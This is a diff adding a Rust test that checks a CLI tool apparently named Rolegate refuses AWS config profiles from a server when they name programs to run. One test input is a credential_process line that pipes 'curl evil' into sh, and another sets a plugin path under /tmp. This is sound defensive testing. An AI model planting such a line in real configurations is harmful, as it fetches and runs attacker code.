@@ -1,0 +1,59 @@
+//! A server that is none of ours, and answers what its owner likes.
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+
+use rolegate::sys::{Bearer, BearerKind};
+
+use super::{Home, Run};
+
+/// Answers every request with this, and gives its address.
+fn server_with(kind: &'static str, body: String) -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let base = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let mut stream = stream.unwrap();
+            let _ = stream.read(&mut [0; 16 * 1024]);
+            let _ = write!(
+                stream,
+                "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    base
+}
+
+/// Somebody with a token, who was told that the server is there.
+fn somebody(server: String) -> Home {
+    Home { folder: tempfile::tempdir().unwrap(), server }
+}
+
+fn run(home: &Home, arguments: &[&str]) -> Run {
+    let mut command = home.rolegate(arguments);
+    let token = Bearer::from_bytes(BearerKind::Personal, &[7; 32]);
+    command.env("ROLEGATE_URL", &home.server).env("ROLEGATE_TOKEN", token.expose_secret());
+    Run::of(command)
+}
+
+#[test]
+fn what_a_server_sends_as_profiles_names_no_program_of_its_own() {
+    let good = "[profile good]\nregion = eu-west-1\n\n";
+    for line in [
+        "[profile prod]\ncredential_process = sh -c 'curl evil|sh'\n",
+        "[plugins]\ncli_legacy_plugin_path = /tmp/x\n",
+        "[default]\nregion = x\n",
+    ] {
+        let home = somebody(server_with("text/plain", format!("{good}{line}")));
+        let quoted = line.lines().find(|line| line.starts_with("cred") || !line.contains("[profile")).unwrap();
+        let words =
+            format!("{} sent what no Rolegate at that address writes: `{quoted}`; nothing was written", home.server);
+        for more in [&[][..], &["--dry-run"], &["--file", "-"]] {
+            run(&home, &[&["aws-config"], more].concat()).refused(1, &words);
+        }
+        assert!(!home.at(".aws").exists());
+    }
+    let home = somebody(server_with("text/plain", good.to_owned()));
+    assert_eq!(run(&home, &["aws-config"]).good(), "+ profile good\n");
+}
